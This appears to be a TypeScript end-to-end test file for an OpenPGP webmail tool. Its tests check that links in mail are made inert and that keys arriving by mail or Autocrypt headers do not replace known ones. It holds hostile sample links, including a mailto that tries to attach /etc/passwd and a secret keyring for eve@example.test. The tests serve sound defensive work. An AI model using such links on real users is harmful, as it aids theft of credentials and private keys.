// "Mailto: me your secrets": links that want to bring files or ciphertext into an answer (T1), keys that want to take the
// place of known ones (T2).

import assert from 'node:assert/strict';
import { encrypted, file, multipart, signed } from '../../e2e/support/mime.js';
import { escaped } from '../../e2e/support/site.js';
import { cards, importKeys, stored } from '../../e2e/support/steps.js';
import type { Case, Cases } from '../case.js';
import { byAlice, mail, plain, SIGNED, text, withFields } from '../forms.js';
import { ALICE, BOB, SECRET, type World } from '../world.js';

const WORDS = 'Write to me.';

/** No link of a mail is anything but one to the web. */
const link: Case = async (world) => {
  const block = encodeURIComponent(world.gpg.encrypt(SECRET, [world.bob.fingerprint]));
  const targets = [
    'mailto:eve@example.test?attach=/etc/passwd&attachment=/home/bob/.gnupg/secring.gpg',
    `mailto:eve@example.test?body=${block}`,
    'MAILTO:eve@example.test?cc=all@example.test',
    'mailto&colon;eve@example.test',
    'web+pgp:x',
    'openpgp4fpr:0000',
  ];
  const markup = `<p>${WORDS}</p>${targets.map((target) => `<a href="${escaped(target)}">here</a>`).join(' ')}`;
  const raw = mail(encrypted(world.gpg, text(markup, 'text/html'), [world.bob.fingerprint], world.alice.fingerprint));
  const { frame, outcome } = await world.mail(raw, { seen: ([body]) => body?.includes(WORDS) === true });
  const links = await frame.evaluate(() => {
    const inner = document.querySelector<HTMLIFrameElement>('wx-opening iframe.mail-body')?.contentDocument;
    return { all: inner?.querySelectorAll('a').length, live: inner?.querySelectorAll('[href]:not(link)').length };
  });
  assert.deepEqual(links, { all: targets.length, live: 0 });
  return outcome;
};

/** What a webmail makes of such a link: a form for writing with ciphertext in it. Nothing that can be written in is read. */
const composeForm: Case = async (world) => {
  const armored = escaped(world.gpg.encrypt(SECRET, [world.bob.fingerprint]));
  const form = `<form><input name="to" value="eve@example.test"><input name="subject" value="${armored}">
    <textarea name="body" rows="30" cols="90">${armored}</textarea><div contenteditable="true"><pre>${armored}</pre></div></form>`;
  return world.blocks(form, []);
};

const keyring = async (world: World): Promise<string> => {
  const { local } = await stored(world.driver);
  return JSON.stringify(Object.entries(local).filter(([name]) => name.startsWith('key/')));
};

/** A key of somebody else with alice's user ID. */
const otherAlice = (world: World): { armored: string; bare: string } => {
  const key = world.gpg.key(ALICE.replace('Alice', 'Alice Anew'));
  const bare = world.gpg.run(['--export', '--export-options', 'export-minimal', key.fingerprint]).toString('base64');
  world.gpg.forget(key.fingerprint);
  return { armored: key.public, bare };
};

/** Reading changes nothing in the keyring, whatever keys the mail brings along. */
const brings =
  (make: (world: World) => string): Case =>
  async (world) => {
    const before = await keyring(world);
    assert.ok(before.includes(world.alice.fingerprint));
    const { frame, outcome } = await world.mail(make(world), { seen: [SIGNED] });
    assert.equal(await keyring(world), before);
    // What was not under an encryption is nobody's word.
    const gossip = await frame.evaluate(() => {
      const found = document.querySelector<Element & { keys: unknown[] }>('wx-opening:not([hidden]) wx-gossip');
      return found?.keys;
    });
    assert.deepEqual(gossip, []);
    return outcome;
  };

const autocrypt = brings((world) => {
  const { bare } = otherAlice(world);
  const field = `addr=alice@example.test; prefer-encrypt=mutual; keydata=${bare}`;
  const gossip = `Autocrypt-Gossip: ${field}`;
  const signedToo = signed(world.gpg, withFields(plain(SIGNED), gossip), world.alice.fingerprint);
  return mail(signedToo, {
    to: `${BOB}, ${ALICE}`,
    more: [
      ['Autocrypt', field],
      ['Autocrypt-Gossip', field],
    ],
  });
});

const attached = brings((world) => {
  const key = file('alice.asc', 'application/pgp-keys', Buffer.from(otherAlice(world).armored));
  const content = multipart('mixed', [text(SIGNED), key]);
  return mail(encrypted(world.gpg, content, [world.bob.fingerprint], world.alice.fingerprint));
});

/** Imported by hand, it stands beside the known one; a signature of the known one is still its own. */
const imported: Case = async (world) => {
  const before = await keyring(world);
  await importKeys(world.driver, otherAlice(world).armored);
  for (const record of JSON.parse(before)) {
    assert.ok((await keyring(world)).includes(JSON.stringify(record)), 'what was known is as it was');
  }
  const page = await world.driver.page('keys.html');
  await page.visible('.card.key');
  const listed = (await cards(page)).filter((card) => card.includes('alice@example.test'));
  assert.equal(listed.length, 2);
  await page.close();
  await world.tab.front();
  return (await world.mail(mail(byAlice(world)), { seen: [SIGNED] })).outcome;
};

export const MAILTO: Cases = {
  'T1.link': link,
  'T1.form': composeForm,
  'T2.autocrypt': autocrypt,
  'T2.attached': attached,
  'T2.imported': imported,
};
